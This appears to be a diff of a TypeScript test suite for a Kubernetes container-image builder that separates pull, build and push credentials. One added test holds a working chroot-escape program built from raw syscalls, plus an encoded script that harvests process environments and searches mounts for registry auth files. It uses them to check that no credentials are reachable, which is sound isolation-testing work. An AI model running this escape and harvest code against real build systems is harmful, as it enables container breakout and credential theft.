@@ -29,6 +29,7 @@ import {
   RUN_FILES_LIMITS,
   runFiles,
   FAILURE_TAIL_BYTES,
+  readJobEnd,
 } from '../../builder/controller/build-job.js';
 import { BUILD_NAMESPACE as API_BUILD_NAMESPACE } from '../../builder/api/types.js';
 import { cleanupRegistry, run, startRegistry, TestRegistry } from '../../pkogen/test/oci/registry-harness.js';
@@ -241,8 +242,11 @@ describe('the build pod, executed as a kubelet would (issue 22)', () => {
     const pod = job.spec.template.spec;
     expect(scc.metadata.name).toBe('anyuid');
     expect(pod.serviceAccountName).toBe(BUILD_SERVICE_ACCOUNT);
-    const eff = admit(pod, pod.containers[0], scc, CRIO_DEFAULT_CAPABILITIES, builderImage());
-    expect(eff).toEqual({ scc: 'anyuid', uid: 1000, gid: 1000, groups: [], bounding: [...BUILD_CAPABILITIES], noNewPrivs: false, readOnlyRoot: true });
+    expect([...pod.initContainers, ...pod.containers].map((c: any) => c.name)).toEqual(['pull', 'build', 'push']);
+    for (const c of [...pod.initContainers, ...pod.containers]) {
+      const eff = admit(pod, c, scc, CRIO_DEFAULT_CAPABILITIES, builderImage());
+      expect(eff).toEqual({ scc: 'anyuid', uid: 1000, gid: 1000, groups: [], bounding: [...BUILD_CAPABILITIES], noNewPrivs: false, readOnlyRoot: true });
+    }
   });
 
   it('a COPY-only Containerfile builds, pushes with the push Secret and reports the pushed digest; the stage after final is not built', async () => {
@@ -268,6 +272,135 @@ describe('the build pod, executed as a kubelet would (issue 22)', () => {
     expectBaseOwnership(rootfs);
     expect(ownership(rootfs, 'etc/built')).toBe('7:7 0644');
     expect(readFileSync(path.join(rootfs, 'etc/built'), 'utf8')).toBe('built\n');
+  });
+
+  /**
+   * A RUN step that leaves buildah's chroot the two ways a program in it can, and searches what it
+   * reaches: a static program (no libc, raw system calls) chroots into a subdirectory while its
+   * working directory stays outside, climbs to the container's root and chroots there (RUN keeps
+   * CAP_SYS_CHROOT in its user namespace), then runs a shell script that reads every process's
+   * environment and command line, every `/proc/<pid>/root` it may, and every file under every
+   * mount of the container (its mountinfo, but proc, sys and dev mounts) holding an auth file's `"auths"`
+   * key (spelt at run time, so the Containerfile itself does not match). Its report is written into
+   * the image, which the test pulls. The program and the script arrive base64-encoded.
+   */
+  const ESCAPE_C = [
+    'static long sys3(long n, long a, long b, long c) {',
+    '  long r;',
+    '  __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");',
+    '  return r;',
+    '}',
+    'void _start(void) {',
+    '  static char *argv[] = {"busybox", "sh", "-s", 0};',
+    '  static char *envp[] = {"PATH=/bin:/usr/bin", 0};',
+    '  sys3(83, (long)".esc", 0700, 0);',
+    '  sys3(161, (long)".esc", 0, 0);',
+    '  for (int i = 0; i < 64; i++) sys3(80, (long)"..", 0, 0);',
+    '  sys3(161, (long)".", 0, 0);',
+    '  sys3(59, (long)"/bin/busybox", (long)argv, (long)envp);',
+    '  sys3(60, 127, 0, 0);',
+    '}',
+    '',
+  ].join('\n');
+  const ESCAPE_SCRIPT = [
+    'A=aut; b=busybox',
+    'if $b cat /var/run/on-cluster-build/containerfile/Containerfile >/dev/null 2>&1; then echo reached-container-root; fi',
+    'found() { for f in $($b find "$@" -xdev -type f -exec $b grep -l "\\"${A}hs\\"" {} + 2>/dev/null); do case $f in *escape-report*) ;; *) echo "== $f: $($b head -c 2000 $f)";; esac; done; }',
+    'for p in /proc/[0-9]*; do',
+    '  echo "== $p environ: $($b tr "\\000" " " < $p/environ 2>/dev/null)"',
+    '  echo "== $p cmdline: $($b tr "\\000" " " < $p/cmdline 2>/dev/null | $b head -c 200)"',
+    '  if $b ls $p/root/ >/dev/null 2>&1; then echo "== searched $p/root/var/run $p/root/run"; found $p/root/var/run/ $p/root/run/; fi',
+    'done',
+    "for m in $($b awk '{print $5}' /proc/self/mountinfo | $b grep -Ev '(^|/)(proc|sys|dev)(/|$)' | $b sort -u); do",
+    '  case $m in /) continue;; esac',
+    '  found $m',
+    '  echo "== searched $m"',
+    'done',
+    '',
+  ].join('\n');
+  let ESCAPE = '';
+  /** The RUN step; the program is compiled here (x86-64, gcc) when first asked for. */
+  function escapeStep(): string {
+    if (ESCAPE) return ESCAPE;
+    const dir = mkdtempSync(path.join(work, 'escape-'));
+    writeFileSync(path.join(dir, 'esc.c'), ESCAPE_C);
+    run('gcc', ['-static', '-nostdlib', '-Os', '-fno-stack-protector', '-fno-asynchronous-unwind-tables', '-Wl,--build-id=none', '-s', '-o', path.join(dir, 'esc'), path.join(dir, 'esc.c')]);
+    const prog = readFileSync(path.join(dir, 'esc')).toString('base64');
+    const script = Buffer.from(ESCAPE_SCRIPT).toString('base64');
+    ESCAPE = `printf '%s' '${prog}' | busybox base64 -d > /esc && busybox chmod 0755 /esc && printf '%s' '${script}' | busybox base64 -d > /escape.sh && /esc < /escape.sh > /escape-report; busybox rm -f /esc /escape.sh`;
+    return ESCAPE;
+  }
+
+  it('a RUN step that leaves the chroot finds no credential of the pull or push Secret: the build container has none', async () => {
+    const i = input(['FROM configs AS final', `RUN ${escapeStep()}`, ''].join('\n'));
+    const r = await build(i);
+    expect({ exitCode: r.exitCode, tail: r.exitCode ? r.terminationMessage : '' }).toEqual({ exitCode: 0, tail: '' });
+    const { ref } = expectPushed(i, r.terminationMessage);
+    const report = readFileSync(path.join(unpackPushed(ref), 'escape-report'), 'utf8');
+    // It did get out: it read the build container's own files and searched its volumes.
+    expect(report).toMatch(/^reached-container-root$/m);
+    expect(report).toMatch(/^== searched \/tmp$/m);
+    if (process.env.ESCAPE_REPORT) writeFileSync(process.env.ESCAPE_REPORT, report);
+    // And found nothing of either Secret: no auth file, no password, no auth value.
+    const secrets = [reg.password!, auth(reg), 'base.json', 'push.json', '"auths"'];
+    for (const s of secrets) expect({ s, found: report.includes(s) }).toEqual({ s, found: false });
+    // The pulled images it could read (read-only: it cannot alter what the push container pushes).
+    expect(report).toMatch(/^== searched \/var\/lib\/on-cluster-build\/base$/m);
+  });
+
+  // Every shape the webhook admits (builder/webhook/containerfile.ts: `final` last, FROM configs;
+  // earlier stages FROM configs or an earlier stage; --from= an earlier stage).
+  it.each([
+    ['an empty final stage alone', ['FROM configs AS final'], undefined],
+    ['an empty final stage after another stage', ['FROM configs AS tools', 'RUN echo tools > /tools', '', 'FROM configs AS final'], undefined],
+    ['a final stage copying from an earlier stage', ['FROM configs AS tools', 'RUN echo made > /made', '', 'FROM tools AS more', 'RUN echo more >> /made', '', 'FROM configs AS final', 'COPY --from=more /made /etc/made'], 'made\nmore\n'],
+  ])('%s builds, and the pushed image begins with the base image\'s layers', async (_what, lines, made) => {
+    const i = input([...lines, ''].join('\n'));
+    const r = await build(i);
+    expect({ exitCode: r.exitCode, tail: r.exitCode ? r.terminationMessage : '' }).toEqual({ exitCode: 0, tail: '' });
+    const { ref, config } = expectPushed(i, r.terminationMessage);
+    const base = JSON.parse(run('skopeo', ['inspect', '--config', ...skopeoCreds(), `docker://${baseImage}`]));
+    expect(config.rootfs.diff_ids.slice(0, base.rootfs.diff_ids.length)).toEqual(base.rootfs.diff_ids);
+    const rootfs = unpackPushed(ref);
+    expectBaseOwnership(rootfs);
+    if (made) expect(readFileSync(path.join(rootfs, 'etc/made'), 'utf8')).toBe(made);
+    for (const f of ['tools', 'made']) expect(() => lstatSync(path.join(rootfs, f))).toThrow();
+  });
+
+  it('a push target whose TLS certificate a private CA signed: pushed with the trust bundle, refused (x509) without it', async () => {
+    const tls = await startRegistry('tls');
+    try {
+      const over = { pushTag: '', registriesConf: `[[registry]]\nlocation = "${reg.host}"\ninsecure = true\n` };
+      const none = JSON.stringify({ auths: {} });
+      const without = input('FROM configs AS final\nLABEL trust=none\n', over);
+      without.pushTag = `${tls.host}/layered/workers:${without.buildName}`;
+      const r1 = await build(without, () => {}, none);
+      expect(r1.exitCode).not.toBe(0);
+      expect(r1.containers.map((c) => [c.name, c.exitCode === 0])).toEqual([['pull', true], ['build', true], ['push', false]]);
+      expect(r1.terminationMessage).toMatch(/^push failed \(exit \d+\):\n[\s\S]*x509: certificate signed by unknown authority/);
+      const withCa = input('FROM configs AS final\nLABEL trust=bundle\n', { ...over, trustBundle: readFileSync(tls.caFile!, 'utf8') });
+      withCa.pushTag = `${tls.host}/layered/workers:${withCa.buildName}`;
+      const r2 = await build(withCa, () => {}, none);
+      expect({ exitCode: r2.exitCode, tail: r2.exitCode ? r2.terminationMessage : '' }).toEqual({ exitCode: 0, tail: '' });
+      const raw = run('skopeo', ['inspect', '--raw', '--cert-dir', tls.certDir!, `docker://${withCa.pushTag}`]);
+      expect(`sha256:${createHash('sha256').update(Buffer.from(raw)).digest('hex')}`).toBe(r2.terminationMessage);
+      // The base came from the other registry: the pushed image still begins with its layers.
+      const config = JSON.parse(run('skopeo', ['inspect', '--config', '--cert-dir', tls.certDir!, `docker://${withCa.pushTag.replace(/:[^:/]+$/, '')}@${r2.terminationMessage}`]));
+      const base = JSON.parse(run('skopeo', ['inspect', '--config', ...skopeoCreds(), `docker://${baseImage}`]));
+      expect(config.rootfs.diff_ids.slice(0, base.rootfs.diff_ids.length)).toEqual(base.rootfs.diff_ids);
+    } finally {
+      await cleanupRegistry(tls);
+    }
+  });
+
+  it('an image signature policy is applied to the pull: a policy that rejects everything stops the build before it runs', async () => {
+    const i = input('FROM configs AS final\nLABEL policy=reject\n', { policyJson: JSON.stringify({ default: [{ type: 'reject' }] }) });
+    const r = await build(i);
+    expect(r.exitCode).not.toBe(0);
+    expect(r.containers.map((c) => c.name)).toEqual(['pull']);
+    expect(r.terminationMessage).toMatch(/^pull failed \(exit \d+\):\n[\s\S]*rejected/i);
+    const ok = input('FROM configs AS final\nLABEL policy=accept\n', { policyJson: JSON.stringify({ default: [{ type: 'insecureAcceptAnything' }] }) });
+    expect((await build(ok)).exitCode).toBe(0);
   });
 
   // RHEL entitlements (insights-operator's `etc-pki-entitlement`: entitlement.pem, entitlement-key.pem).
@@ -335,17 +468,18 @@ describe('the build pod, executed as a kubelet would (issue 22)', () => {
   });
 
   // Each declared privilege, taken away alone, breaks the build.
-  const withoutCapability = (cap: string) => (job: any) => job.spec.template.spec.containers[0].securityContext.capabilities.drop.push(cap);
+  const everyContainer = (job: any): any[] => [...job.spec.template.spec.initContainers, ...job.spec.template.spec.containers];
+  const withoutCapability = (cap: string) => (job: any) => everyContainer(job).forEach((c) => c.securityContext.capabilities.drop.push(cap));
   it.each([
     ['the SETUID capability', withoutCapability('SETUID'), /insufficient UIDs or GIDs|lchown .*invalid argument/],
     ['the SETGID capability', withoutCapability('SETGID'), /insufficient UIDs or GIDs|lchown .*invalid argument/],
-    ['privilege escalation (no_new_privs)', (job: any) => (job.spec.template.spec.containers[0].securityContext.allowPrivilegeEscalation = false), /insufficient UIDs or GIDs|lchown .*invalid argument/],
+    ['privilege escalation (no_new_privs)', (job: any) => everyContainer(job).forEach((c) => (c.securityContext.allowPrivilegeEscalation = false)), /insufficient UIDs or GIDs|lchown .*invalid argument/],
     [
       'the emptyDir',
       (job: any) => {
         const pod = job.spec.template.spec;
         pod.volumes = pod.volumes.filter((v: any) => !v.emptyDir);
-        pod.containers[0].volumeMounts = pod.containers[0].volumeMounts.filter((m: any) => pod.volumes.some((v: any) => v.name === m.name));
+        for (const c of everyContainer(job)) c.volumeMounts = c.volumeMounts.filter((m: any) => pod.volumes.some((v: any) => v.name === m.name));
       },
       /Read-only file system/,
     ],
@@ -362,7 +496,7 @@ describe('the build pod, executed as a kubelet would (issue 22)', () => {
     // The base pull Secret's credentials are for <registry>/ocp only, so they do not authenticate the push either.
     const r = await build(i, () => {}, JSON.stringify({ auths: {} }));
     expect(r.exitCode).not.toBe(0);
-    expect(r.terminationMessage).toMatch(/^build failed \(exit \d+\):\n/);
+    expect(r.terminationMessage).toMatch(/^push failed \(exit \d+\):\n/);
     expect(r.terminationMessage).toMatch(/authentication required|unauthorized/i);
     // The build itself pulled with the base Secret and succeeded; only the push was refused.
     expect(r.logs).toContain('Successfully tagged');
@@ -371,7 +505,8 @@ describe('the build pod, executed as a kubelet would (issue 22)', () => {
   it('a build that outgrows the emptyDir sizeLimit is evicted, as the kubelet would', async () => {
     const i = input('FROM configs AS final\nLABEL small=limit\n', { storage: { request: '1Mi', limit: '1Mi' } });
     const r = await build(i);
-    expect(r.evicted).toBe('Usage of EmptyDir volume "build" exceeds the limit "1048576".');
+    // The pulled base alone outgrows it.
+    expect(r.evicted).toBe('Usage of EmptyDir volume "base" exceeds the limit "1048576".');
   });
 
   it('a failing RUN step: the termination message is the bounded tail of the output, ending with the error', async () => {
@@ -383,7 +518,8 @@ describe('the build pod, executed as a kubelet would (issue 22)', () => {
     const msg = r.terminationMessage;
     expect(Buffer.byteLength(msg)).toBeLessThanOrEqual(FAILURE_TAIL_BYTES + 64);
     expect(msg).toMatch(/^build failed \(exit \d+\):\n/);
-    expect(msg.trimEnd().split('\n').pop()).toBe(`Error: building at STEP "RUN ${step}": exit status 7`);
+    // buildah 1.28, removing the failed step's container over a read-only image store, prefixes "layer not known: ".
+    expect(msg.trimEnd().split('\n').pop()).toMatch(new RegExp(`^Error: (layer not known: )?building at STEP "RUN ${step.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}": exit status 7$`));
     expect(msg).toContain('progress-line-299\n');
     // The log starts with the pull and the step's first lines; the message keeps none of them.
     expect(r.logs).toMatch(/Trying to pull[\s\S]*progress-line-0\n/);
@@ -423,7 +559,7 @@ describe('the build Job as the API and admission see it', () => {
       requests: { cpu: '500m', memory: '1Gi', 'ephemeral-storage': DEFAULT_BUILD_STORAGE.request },
       limits: { cpu: '2', memory: '8Gi', 'ephemeral-storage': DEFAULT_BUILD_STORAGE.limit },
     });
-    expect(pod.volumes.find((v: any) => v.emptyDir)).toEqual({ name: 'build', emptyDir: { sizeLimit: DEFAULT_BUILD_STORAGE.limit } });
+    expect(pod.volumes.filter((v: any) => v.emptyDir)).toEqual(['base', 'build', 'scratch'].map((name) => ({ name, emptyDir: { sizeLimit: DEFAULT_BUILD_STORAGE.limit } })));
     expect(c.env).toEqual(expect.arrayContaining([{ name: 'TMPDIR', value: '/tmp' }, { name: 'HOME', value: '/tmp/home' }]));
     expect(BUILD_SCRIPT).toContain('--target final');
     // No registries.conf unless given.
@@ -441,15 +577,18 @@ describe('the build Job as the API and admission see it', () => {
 
   it('entitlements, repositories, GPG keys: mounted only when there are some, from the build Secret, apart from the registry credentials; bounded', () => {
     const pod = (buildJob(input) as any).spec.template.spec;
-    expect(pod.volumes.map((v: any) => v.name)).toEqual(['credentials', 'containerfile', 'build']);
-    expect(pod.volumes.find((v: any) => v.name === 'credentials').secret.items).toEqual([{ key: 'base.json', path: 'base.json' }, { key: 'push.json', path: 'push.json' }]);
+    expect(pod.volumes.map((v: any) => v.name)).toEqual(['pull-credentials', 'push-credentials', 'containerfile', 'base', 'build', 'scratch']);
+    expect(pod.volumes.find((v: any) => v.name === 'pull-credentials').secret.items).toEqual([{ key: 'base.json', path: 'base.json' }]);
+    expect(pod.volumes.find((v: any) => v.name === 'push-credentials').secret.items).toEqual([{ key: 'push.json', path: 'push.json' }]);
     const ent = { ...input, runFiles: { entitlement: ['entitlement.pem', 'entitlement-key.pem'] } };
     const p2 = (buildJob(ent) as any).spec.template.spec;
     expect(p2.volumes.find((v: any) => v.name === 'entitlement')).toEqual({
       name: 'entitlement',
       secret: { secretName: input.jobName, defaultMode: 0o444, items: [{ key: 'entitlement.entitlement-key.pem', path: 'entitlement-key.pem' }, { key: 'entitlement.entitlement.pem', path: 'entitlement.pem' }] },
     });
-    expect(p2.containers[0].volumeMounts).toContainEqual({ name: 'entitlement', mountPath: '/var/run/on-cluster-build/entitlement', readOnly: true });
+    // In the build container only: the one that runs RUN steps.
+    expect(p2.initContainers[1].volumeMounts).toContainEqual({ name: 'entitlement', mountPath: '/var/run/on-cluster-build/entitlement', readOnly: true });
+    expect([p2.initContainers[0], p2.containers[0]].flatMap((c: any) => c.volumeMounts.map((m: any) => m.name))).not.toContain('entitlement');
     const b64 = (t: string) => Buffer.from(t).toString('base64');
     const sec = buildSecret(ent, { metadata: { name: 'j', uid: 'u' } }, '{}', '{}', { entitlement: { 'entitlement.pem': b64('c') } }) as any;
     expect(Object.keys(sec.data).sort()).toEqual(['base.json', 'entitlement.entitlement.pem', 'push.json']);
@@ -464,6 +603,31 @@ describe('the build Job as the API and admission see it', () => {
     expect(runFiles('entitlement', many, 'S')).toMatchObject({ error: expect.stringContaining(`at most ${RUN_FILES_LIMITS.files}`) });
     // A message never holds a value.
     expect(JSON.stringify(runFiles('entitlement', { 'x.txt': b64('secret-value') }, 'S'))).not.toMatch(/secret-value|c2VjcmV0LXZhbHVl/);
+  });
+
+  it('credentials: the pull auth file only in the pull container, the push one only in the push container, none in the build container; no token, no shared PID namespace', () => {
+    const pod = (buildJob({ ...input, trustBundle: 'PEM', runFiles: { entitlement: ['entitlement.pem'] } }) as any).spec.template.spec;
+    const mounts = (c: any) => c.volumeMounts.map((m: any) => m.name).sort();
+    const [pull, build] = pod.initContainers;
+    const [push] = pod.containers;
+    expect(mounts(pull)).toEqual(['base', 'containerfile', 'pull-credentials', 'scratch', 'scratch', 'trust']);
+    expect(mounts(build)).toEqual(['base', 'build', 'build', 'containerfile', 'entitlement']);
+    expect(mounts(push)).toEqual(['base', 'build', 'containerfile', 'push-credentials', 'scratch', 'scratch', 'trust']);
+    // What the build container writes, the others read only; what the pull container writes, the build container reads only.
+    const ro = (c: any, v: string) => c.volumeMounts.filter((m: any) => m.name === v && !m.subPath).map((m: any) => !!m.readOnly);
+    expect([ro(pull, 'base'), ro(build, 'base'), ro(push, 'base'), ro(push, 'build')]).toEqual([[false], [true], [true], [true]]);
+    for (const c of [pull, build, push]) expect(JSON.stringify(c.env)).not.toMatch(/auth|password|token/i);
+    expect(pod.automountServiceAccountToken).toBe(false);
+    expect(pod.shareProcessNamespace).toBe(false);
+  });
+
+  it('readJobEnd: the pushed digest from the push container, a failure message from whichever container failed', async () => {
+    const job = (cond: string) => ({ apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'j' }, status: { conditions: [{ type: cond, status: 'True' }] } });
+    const pod = (init: object[], app: object[]) => [{ apiVersion: 'v1', kind: 'Pod', metadata: { name: 'p', creationTimestamp: '2026-11-27T00:00:00Z' }, status: { initContainerStatuses: init, containerStatuses: app } }];
+    const t = (exitCode: number, message: string) => ({ state: { terminated: { exitCode, message } } });
+    const d = 'sha256:' + 'e'.repeat(64);
+    expect(await readJobEnd(job('Complete'), async () => pod([t(0, ''), t(0, '')], [t(0, d)]))).toMatchObject({ state: 'complete', digest: d });
+    expect(await readJobEnd(job('Failed'), async () => pod([t(0, ''), t(2, 'build failed (exit 2):\nError: x')], [{ state: { waiting: {} } }]))).toMatchObject({ state: 'failed', lastMessage: 'build failed (exit 2):\nError: x' });
   });
 
   it('the namespace admits it (Pod Security "baseline"), "restricted" would not', () => {
